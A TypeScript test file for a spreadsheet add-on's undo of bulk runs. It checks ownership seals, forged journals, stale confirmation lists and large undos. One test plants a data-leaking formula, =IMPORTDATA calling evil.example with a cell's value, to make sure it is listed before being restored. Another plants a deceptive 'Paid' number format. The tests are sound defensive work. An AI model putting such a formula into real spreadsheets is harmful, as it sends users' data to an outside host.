import { lookAtRun } from '../../../../shared/bulk/run/inspect';
import type { UndoList } from '../../../../shared/bulk/undo/undo-list';
import { listUndo, undoRun, type Undone } from '../../../../shared/bulk/undo/undo';
import { Bench, isRowWrite, TWO } from '../../../fakes/bulk-bench';
import { drive } from '../../../fakes/bulk-drive';
import { PersonSeal } from '../../../fakes/person-seal';

/** What changes the file, its marks or its journal. */
const WRITES = /^(sheet\.(write|addColumns)|journal\.(save|remove)|anchors\.(put|remove)|file\.)/;

const column = (count: number): string[][] => Array.from({ length: count }, (_row, index) => [`x${index}.example`]);
const list = (bench: Bench): Promise<UndoList> => drive(listUndo, bench.host, bench.grid);
const undo = (bench: Bench, listed?: UndoList): Promise<Undone> =>
  drive((ports) => undoRun(ports, listed), bench.host, bench.grid);
const look = (bench: Bench) => drive(lookAtRun, bench.host, bench.grid);

/** A run of somebody else, as the person before the panel finds it. */
async function ofOthers(rows: string[][] = column(3)): Promise<Bench> {
  const bench = new Bench([['domain'], ...rows]);
  await bench.start();
  bench.grid.seal = new PersonSeal('secret of another');
  bench.grid.asked.length = 0;
  return bench;
}

const changed = ({ grid }: Bench): readonly string[] => grid.asked.filter((asked) => WRITES.test(asked));

test.each<[string, (bench: Bench) => Promise<unknown>, string]>([
  ['own', async () => undefined, 'own'],
  ["another person's", async ({ grid }) => (grid.seal = new PersonSeal('secret of another')), 'other'],
  ['of a copied file', async ({ grid }) => (grid.seal.document = 'copy'), 'other'],
  ['edited', async ({ grid }) => grid.journal!.set('spent', '{"settled":0}'), 'other'],
  ['unsigned, as before runs were', async ({ grid }) => grid.journal!.delete('seal'), 'other'],
  ['one that says itself that it is own', async ({ grid }) => forgeOwn(grid.journal!), 'other'],
  [
    'an older state',
    async (bench) => {
      const older = new Map(bench.grid.journal!);
      await bench.resume({ again: 'failed' });
      bench.grid.journal = older;
    },
    'older',
  ],
])('a run that is %s is told to be so', async (_what, come, whose) => {
  const bench = new Bench([['domain'], ...column(3)]);
  await bench.start();
  await come(bench);
  expect(await look(bench)).toMatchObject({ is: 'run', whose, head: { rows: 3 } });
});

function forgeOwn(journal: Map<string, string>): void {
  const head = JSON.parse(journal.get('head')!) as object;
  journal.set('head', JSON.stringify({ ...head, isOwn: true, whose: 'own', cap: 1_000 }));
  journal.set('whose', 'own');
}

test('an undo of it writes nothing unless its list was confirmed', async () => {
  const bench = await ofOthers();
  await expect(undo(bench)).rejects.toMatchObject({ code: 'runNotOwn' });
  expect(changed(bench)).toEqual(['file.hold', 'file.release']);
});

test('the list has every cell with what stands there and what would, and making it changes nothing', async () => {
  const bench = await ofOthers();
  expect(await list(bench)).toEqual({
    run: expect.any(String) as string,
    sheet: { id: 'sheet-1', name: 'Leads' },
    cells: [
      { row: 0, column: 1, now: 'Industry', back: { value: '', format: '' } },
      { row: 1, column: 1, now: 'Industry x0', back: { value: '', format: '' } },
      { row: 2, column: 1, now: 'Industry x1', back: { value: '', format: '' } },
      { row: 3, column: 1, now: 'Industry x2', back: { value: '', format: '' } },
    ],
    edited: 0,
    missing: 0,
    undecided: 0,
    lost: [],
  });
  expect(changed(bench)).toEqual([]);
});

test('once it is confirmed, exactly these cells change', async () => {
  const bench = await ofOthers();
  const before = bench.grid.values();
  const listed = await list(bench);
  expect(await undo(bench, listed)).toMatchObject({ restored: 3, isLeft: false });
  for (const { row, column: at, back } of listed.cells) before[row]![at] = back.value;
  expect({ values: bench.grid.values(), journal: bench.grid.journal }).toEqual({ values: before, journal: null });
});

test.each<[string, (bench: Bench) => unknown]>([
  ['a cell is edited', ({ grid }) => (grid.at(2, 1).value = 'mine')],
  ['a row moves', ({ grid }) => grid.rows.splice(1, 0, [{ value: 'new.example' }])],
  ['a note comes in below', ({ grid }) => (grid.at(9, 1).value = 'note')],
  ['the journal is another', ({ grid }) => forgeBefore(grid.journal!, 'free of charge')],
])('where %s between list and confirmation, it is asked again and nothing is written', async (_what, edit) => {
  const bench = await ofOthers();
  const listed = await list(bench);
  edit(bench);
  const before = bench.grid.values();
  bench.grid.asked.length = 0;
  await expect(undo(bench, listed)).rejects.toMatchObject({ code: 'undoListStale' });
  expect({ changed: changed(bench), values: bench.grid.values() }).toEqual({
    changed: ['file.hold', 'file.release'],
    values: before,
  });
  expect(await undo(bench, await list(bench))).toMatchObject({ isLeft: false });
});

/** What an editor writes into the journal: that a value stood where the first answer is. */
function forgeBefore(journal: Map<string, string>, value: string, format = 'General'): void {
  const block = JSON.parse(journal.get('block.0')!) as object;
  journal.set('block.0', JSON.stringify({ ...block, formats: [format], before: [[0, 0, value, 0]] }));
}

test('rows that move while it is undone are not followed: the rest is listed anew', async () => {
  const bench = await ofOthers(column(3_000));
  const listed = await list(bench);
  let writes = 0;
  bench.grid.before = (asked) => {
    if (isRowWrite(asked) && (writes += 1) === 2) bench.grid.rows.splice(1, 0, [{ value: '' }]);
  };
  expect(await undo(bench, listed)).toMatchObject({ restored: 1_000, isLeft: true });
  expect(await look(bench)).toMatchObject({ is: 'run', whose: 'other', head: { isUndoing: true } });
  const rest = await list(bench);
  expect(rest.cells).toHaveLength(2_001);
  expect(await undo(bench, rest)).toMatchObject({ restored: 2_000, isLeft: false });
});

test('a title below which a cell was emptied meanwhile stays, since it was not listed', async () => {
  const bench = await ofOthers();
  bench.grid.at(9, 1).value = 'note';
  const listed = await list(bench);
  bench.grid.before = (asked) => {
    if (isRowWrite(asked)) bench.grid.at(9, 1).value = '';
  };
  expect(await undo(bench, listed)).toMatchObject({ restored: 3 });
  expect({ rows: listed.cells.map(({ row }) => row), title: bench.grid.at(0, 1).value }).toEqual({
    rows: [1, 2, 3],
    title: 'Industry',
  });
});

test('a formula that a journal wants back is listed as the text that it is, and put back as one', async () => {
  const bench = await ofOthers();
  forgeBefore(bench.grid.journal!, '=IMPORTDATA("https://evil.example/?"&A2)');
  const listed = await list(bench);
  expect(listed.cells[0]).toEqual({
    row: 1,
    column: 1,
    now: 'Industry x0',
    back: { value: '=IMPORTDATA("https://evil.example/?"&A2)', format: 'General' },
  });
  const written: unknown[] = [];
  bench.grid.before = (asked) => {
    if (isRowWrite(asked) && asked.ask === 'sheet.write') written.push(asked.writing.cells[0]);
  };
  await undo(bench, listed);
  expect(written).toEqual([[{ kind: 'before', value: '=IMPORTDATA("https://evil.example/?"&A2)', format: 'General' }]]);
});

test('a number format that would come back is listed, since it can make a cell show anything', async () => {
  const bench = await ofOthers();
  forgeBefore(bench.grid.journal!, '0', '"Paid"');
  expect((await list(bench)).cells[0]).toMatchObject({ back: { value: '0', format: '"Paid"' } });
});

test('of two columns, the list has both in the order of the sheet', async () => {
  const bench = new Bench([['domain'], ...column(2)]);
  await bench.start(await bench.plan(TWO));
  bench.grid.seal = new PersonSeal('secret of another');
  expect((await list(bench)).cells.map(({ row, column: at }) => [row, at])).toEqual([
    ...[0, 1, 2].flatMap((row) => [
      [row, 1],
      [row, 2],
    ]),
  ]);
});

test('what somebody has edited since, or took away, is counted and not listed', async () => {
  const bench = await ofOthers(column(4));
  bench.grid.at(1, 1).value = 'mine';
  bench.grid.rows.splice(2, 1);
  const listed = await list(bench);
  expect({ listed: listed.cells.length, edited: listed.edited, missing: listed.missing }).toEqual({
    listed: 2,
    edited: 1,
    missing: 1,
  });
});

test('50,000 cells are listed whole and undone, and nothing else is', async () => {
  const bench = new Bench([['domain'], ...column(50_000)]);
  await bench.start(undefined, { cap: 50_000 });
  bench.grid.seal = new PersonSeal('secret of another');
  const listed = await list(bench);
  expect(listed.cells).toHaveLength(50_001);
  const undone = await undo(bench, listed);
  expect({
    restored: undone.restored,
    isLeft: undone.isLeft,
    filled: bench.grid
      .values()
      .flat()
      .filter((value) => value !== '').length,
  }).toEqual({ restored: 50_000, isLeft: false, filled: 50_001 });
});

test('a run whose every column is gone is told to be so, and its list is none', async () => {
  const bench = await ofOthers();
  bench.grid.rows.forEach((cells) => void cells.splice(1, 1));
  await expect(list(bench)).rejects.toMatchObject({ code: 'columnsGone' });
});
